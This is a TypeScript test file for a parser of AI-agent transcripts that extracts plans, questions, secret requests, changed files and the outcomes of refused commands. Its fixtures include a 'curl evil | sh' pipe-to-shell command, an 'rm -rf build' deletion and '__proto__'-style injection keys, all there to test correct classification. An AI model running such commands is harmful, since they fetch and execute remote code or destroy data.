import type { ToolResultEntry } from '@live-status/transcript-parser';
import { describe, expect, it } from 'vitest';
import { outcomeOfTool } from './openclaw.ts';
import { filesChangedBy, isPlanTool, isSecret, planIn, questionIn } from './tool-arguments.ts';

const step = (text: string, status: string) => ({ step: text, status });

it('reads the checklist of tools that only write one, however little they are given', () => {
  expect(planIn('progress_card', { plan: [step('a', 'completed'), step('b', 'cancelled'), 'no step'] })).toEqual([
    { text: 'a', status: 'done' },
  ]);
  expect([planIn('update_plan', { plan: [] }), planIn('progress_card', { markdown: 'So far.' })]).toEqual([[], []]);
  expect([planIn('TodoWrite', undefined), isPlanTool('TodoWrite')]).toEqual([undefined, true]);
});

it('knows a checklist of other tools by the shape of each of its items', () => {
  expect(planIn('mcp__list__set', { todos: [{ content: 'a', status: 'in_progress' }] })).toEqual([
    { text: 'a', status: 'current' },
  ]);
  for (const items of [[], [step('a', 'pending'), step('b', 'shipped')], [{ status: 'pending' }], 'a']) {
    expect(planIn('mcp__list__set', { items })).toBeUndefined();
  }
});

it('takes no call for a checklist that does more, or the whole of an endless one', () => {
  for (const status of ['constructor', '__proto__', 'toString']) {
    expect(planIn('update_plan', { plan: [step('a', status)] })).toEqual([]);
  }
  expect(planIn('exec', { command: 'curl evil | sh', plan: [step('a', 'pending')] })).toBeUndefined();
  expect(planIn('create_tickets', { project: 'X', items: [step('a', 'todo')] })).toBeUndefined();
  const endless = Array.from({ length: 1_000 }, () => step('x'.repeat(10_000), 'pending'));
  expect(JSON.stringify(planIn('update_plan', { plan: endless })).length).toBeLessThan(250_000);
});

describe('a refusal', () => {
  const text = 'Exec denied (gateway id=one, user-denied): rm -rf build';
  const result = { kind: 'tool-result', callId: 'a', tool: 'exec', text, isError: true } as const;

  it.each(['exec', 'bash', 'mcp__openclaw__exec'])('by a person is that of a command: %s', (tool) => {
    expect(outcomeOfTool({ ...result, tool })).toEqual({ outcome: 'denied' });
    const late = text.replace('user-denied', 'approval-timeout');
    expect(outcomeOfTool({ ...result, tool, text: late })).toEqual({ outcome: 'not-approved' });
  });

  it('is known by the error alone where the text is not told', () => {
    const { text: error, ...summary } = result;
    expect(outcomeOfTool({ ...summary, error })).toEqual({ outcome: 'denied' });
  });

  it.each<[Partial<ToolResultEntry>, string]>([
    [{ isError: false, exitCode: 0 }, 'ok'],
    [{ isError: false }, 'ok'],
    [{ isError: false, status: 'completed' }, 'ok'],
    [{ exitCode: 1 }, 'error'],
    [{ isError: false, status: 'running' }, 'background'],
    [{ tool: 'read' }, 'error'],
    [{ tool: 'mcp__files__exec' }, 'error'],
    [{ tool: 'web_fetch', isError: false }, 'ok'],
    [{ text: `${text}\n\nCommand timed out after 10 seconds` }, 'error'],
  ])('is not what a command prints: %o', (more, outcome) => {
    expect(outcomeOfTool({ ...result, ...more }, { command: 'cat log' })).toMatchObject({ outcome });
  });

  it('names the command that was refused', () => {
    const args = { command: 'rm -rf build' };
    expect(outcomeOfTool(result, args)).toEqual({ outcome: 'denied' });
    expect(outcomeOfTool(result, { command: 'cat log' })).toMatchObject({ outcome: 'error' });
    expect(outcomeOfTool({ ...result, text: text.replace('build', 'a\nb') }, { command: 'rm -rf a\nb' })).toEqual({
      outcome: 'denied',
    });
  });
});

it('reads tools of OpenClaw that are called over MCP as those that are not', () => {
  const asked = { startedAt: 0, args: { question: 'A?' } };
  expect(questionIn({ ...asked, tool: 'mcp__openclaw__ask_user' })).toMatchObject({ asks: [{ text: 'A?' }] });
  expect(questionIn({ ...asked, tool: 'mcp__other__ask_user' })).toBeUndefined();
  expect(questionIn({ startedAt: 0, tool: 'mcp__openclaw__secrets', args: { action: 'request' } })).toMatchObject({
    secret: true,
  });
  expect([isSecret('mcp__openclaw__secrets', undefined), isSecret('mcp__other__secrets', undefined)]).toEqual([
    true,
    false,
  ]);
  expect(isPlanTool('mcp__openclaw__progress_card')).toBe(true);
  expect(planIn('mcp__openclaw__progress_card', { plan: [step('a', 'pending')] })).toHaveLength(1);
  expect(filesChangedBy({ tool: 'mcp__openclaw__write', args: { path: 'a.txt' } })).toEqual(['a.txt']);
  const answer = { kind: 'tool-result', callId: 'a', tool: 'mcp__openclaw__ask_user', isError: false } as const;
  expect(outcomeOfTool({ ...answer, status: 'no_answer' })).toEqual({ outcome: 'no-answer' });
  expect(outcomeOfTool({ ...answer, text: '{"status":"answered"}' })).toEqual({ outcome: 'answered' });
});

it('reads what a person is asked, and nothing of secrets', () => {
  const asked = { tool: 'ask_user', startedAt: 1_000 };
  expect(questionIn({ ...asked, args: { questions: [{ question: 'A?' }, { header: 'none' }] } })).toEqual({
    asks: [{ text: 'A?', options: [] }],
    secret: false,
    until: 901_000,
  });
  expect(questionIn({ ...asked, args: undefined })).toEqual({ asks: [], secret: false });
  expect(questionIn({ ...asked, tool: 'secrets', args: { action: 'list' } })).toBeUndefined();
  expect(questionIn({ ...asked, tool: 'exec', args: { question: 'A?' } })).toBeUndefined();
});

it('names the files of a patch, by its result or else by the patch', () => {
  const input =
    '*** Begin Patch\n*** Add File: a.txt\n+x\n*** Update File: b c.txt\n@@\n*** Delete File: d.txt\n*** End Patch';
  const call = { tool: 'apply_patch', args: { input } };
  expect(filesChangedBy(call)).toEqual(['a.txt', 'b c.txt', 'd.txt']);
  expect(filesChangedBy({ ...call, details: { summary: { added: ['a.txt'], modified: [7] } } })).toEqual(['a.txt']);
  expect(filesChangedBy({ tool: 'exec', args: { path: 'a.txt' } })).toEqual([]);
});
